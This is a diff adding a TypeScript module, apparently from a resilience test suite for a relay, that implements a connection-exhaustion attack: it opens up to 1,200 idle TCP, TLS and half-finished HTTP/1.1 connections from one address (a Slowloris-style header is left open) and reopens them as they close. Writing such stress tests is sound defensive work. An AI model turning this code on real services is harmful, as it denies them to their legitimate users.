@@ -1,0 +1,36 @@
+import { connect, type Socket } from "node:net";
+import { setTimeout as sleep } from "node:timers/promises";
+import type { Attack, Target } from "./attack.ts";
+import { connectTls } from "./raw-http2.ts";
+
+/** More than the relay takes from everybody. */
+const connections = 1200;
+/** Opened at a time. */
+const batch = 50;
+
+/** Ways to hold a connection and ask for nothing: without a handshake, without a request, without its end. */
+const ways: readonly ((target: Target) => Promise<Socket>)[] = [
+  ({ host, port }) => Promise.resolve(connect(port, host).on("error", () => undefined)),
+  (target) => connectTls(target, "h2"),
+  async (target) => {
+    const socket = await connectTls(target, "http/1.1");
+    if (!socket.destroyed) socket.write("GET / HTTP/1.1\r\nhost: localhost\r\nx-slow: ");
+    return socket;
+  },
+];
+
+/** A crowd from one address at the door, which comes again as often as it is sent away. */
+export const tcpCrowd: Attack = {
+  name: "a crowd at the door, over TCP",
+  async run(target, signal) {
+    let crowd: Socket[] = [];
+    for (let turn = 0; !signal.aborted; turn++) {
+      crowd = crowd.filter(({ destroyed }) => !destroyed);
+      const missing = Math.min(batch, connections - crowd.length);
+      const way = ways[turn % ways.length]!;
+      crowd.push(...(await Promise.all(Array.from({ length: missing }, () => way(target)))));
+      await sleep(20, undefined, { signal }).catch(() => undefined);
+    }
+    for (const socket of crowd) socket.destroy();
+  },
+};
